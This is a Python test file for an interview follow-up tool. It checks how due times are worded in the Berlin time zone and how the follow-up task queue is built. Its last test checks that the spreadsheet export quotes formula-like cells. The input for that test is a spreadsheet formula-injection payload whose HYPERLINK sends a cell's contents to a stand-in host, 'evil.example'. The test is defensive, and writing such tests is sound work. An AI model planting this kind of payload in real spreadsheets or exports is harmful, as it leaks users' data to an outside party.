"""The queue's words for time, and the spreadsheet's defence against formulas."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from interview_followup import agenda
from interview_followup.status import Stage

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 17, 9, 30, tzinfo=BERLIN)  # a Tuesday


@pytest.mark.parametrize(
    ("later", "timed", "said"),
    [
        (timedelta(hours=-30), False, "today"),
        (timedelta(hours=2), True, "today 11:30 CET"),
        (timedelta(days=1), True, "tomorrow 09:30 CET"),
        (timedelta(days=2), False, "Thu"),
        (timedelta(days=9), True, "Thu 26 Nov 09:30 CET"),
        (timedelta(days=140), True, "Tue 6 Apr 09:30 CEST"),
    ],
)
def test_when_is_said_in_the_persons_zone_with_the_zone(later: timedelta, timed: bool, said: str) -> None:
    task = agenda.Task((NOW + later).astimezone(BERLIN), timed, "x", "Acme", "id", None)
    assert agenda.when(task, NOW) == said


def item(company: str, steps: list[dict[str, object]]) -> dict[str, object]:
    return {
        "id": "i1", "account": "home", "company": company, "employer": "acme.com", "role": None,
        "start": "2026-11-10T10:00:00+01:00", "interviewers": ["jane@acme.com"], "phase": "following up",
        "why_stopped": None, "outcome": None, "outcome_confirmed": False, "steps": steps,
    }  # fmt: skip


def step(name: str, kind: str, due: datetime, stage: Stage = Stage.PLANNED) -> dict[str, object]:
    return {"step": name, "kind": kind, "due": due.isoformat(), "stage": stage.value}


def test_a_draft_in_the_drafts_folder_is_due_today_an_entry_while_ahead_and_nothing_done_is_listed() -> None:
    steps = [
        step("thank_you", "draft", NOW - timedelta(days=6), Stage.MADE),
        step("thank_you", "draft", NOW - timedelta(days=6), Stage.SENT),
        step("first_check_in", "entry", NOW - timedelta(days=1), Stage.MADE),
        step("weekly_check_in", "entry", NOW + timedelta(days=6), Stage.MADE),
        step("status_email", "draft", NOW + timedelta(days=3)),
        step("call_back", "entry", NOW + timedelta(days=8), Stage.REMOVED),
        step("thank_you_reminder", "entry", NOW + timedelta(hours=3)),
    ]
    queue = agenda.tasks([item("Acme", steps)], NOW, BERLIN)
    assert [(agenda.when(t, NOW), t.what, t.days_waited) for t in queue] == [
        ("today", "send a thank-you note to Acme (draft ready)", None),
        ("Fri", "ask Acme where things stand", 10),
        ("Mon 09:30 CET", "check in with Acme", 13),
    ]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted() -> None:
    hostile = item('=HYPERLINK("http://evil.example/?"&A1,"Acme")', [])
    (row,) = list(csv.DictReader(io.StringIO(agenda.spreadsheet([hostile], []))))
    assert row["company"].startswith("'=") and row["interview"] == "2026-11-10 10:00"
